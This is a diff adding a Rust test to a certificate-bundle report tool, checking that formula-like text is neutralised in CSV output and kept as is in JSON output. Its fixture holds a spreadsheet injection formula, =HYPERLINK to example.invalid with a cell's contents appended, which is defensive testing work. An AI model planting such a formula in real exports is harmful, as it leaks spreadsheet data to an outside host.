@@ -758,3 +758,40 @@ fn a_reference_zip_gets_the_checks_verify_makes() {
         .stderr(predicate::str::contains("not a certbundle bundle"))
         .stderr(predicate::str::contains("backslash"));
 }
+
+/// Text from a report that a spreadsheet would run as a formula (`=`, `+`, `-`, `@`) reaches a
+/// CSV cell behind a `'`, and no cell starts with a formula character; `--json` keeps the text
+/// as the report has it.
+#[test]
+fn formula_text_in_a_report_never_starts_a_csv_cell() {
+    let tmp = tempfile::tempdir().unwrap();
+    let formula = r#"=HYPERLINK("http://example.invalid/?"&A1,"open")"#;
+    let hostile = fixture_text("SRV-APEX01_20261126T080004Z.json")
+        .replace(
+            "\"name\": \"apex-one-certs-20261125\"",
+            &format!("\"name\": {}", serde_json::to_string(formula).unwrap()),
+        )
+        .replace("\"domain\": \"CORP\"", "\"domain\": \"+CORP\"");
+    assert!(hostile.contains("HYPERLINK") && hostile.contains("+CORP"));
+    write(tmp.path(), "SRV-APEX01_20261126T080004Z.json", hostile);
+
+    let csv = stdout(&report().arg(tmp.path()).arg("--csv").assert().code(0));
+    let mut reader = csv::ReaderBuilder::new()
+        .has_headers(true)
+        .from_reader(csv.as_bytes());
+    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+    assert_eq!(rows.len(), 1, "{csv}");
+    let cells: Vec<&str> = rows[0].iter().collect();
+    assert!(cells.contains(&format!("'{formula}").as_str()), "{cells:?}");
+    assert!(cells.contains(&"'+CORP"), "{cells:?}");
+    for cell in &cells {
+        assert!(
+            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+            "a cell a spreadsheet would run: {cell:?}"
+        );
+    }
+    let json: serde_json::Value = strict_json(stdout(
+        &report().arg(tmp.path()).arg("--json").assert().code(0),
+    ));
+    assert_eq!(json["hosts"][0]["domain"], "+CORP", "{json}");
+}
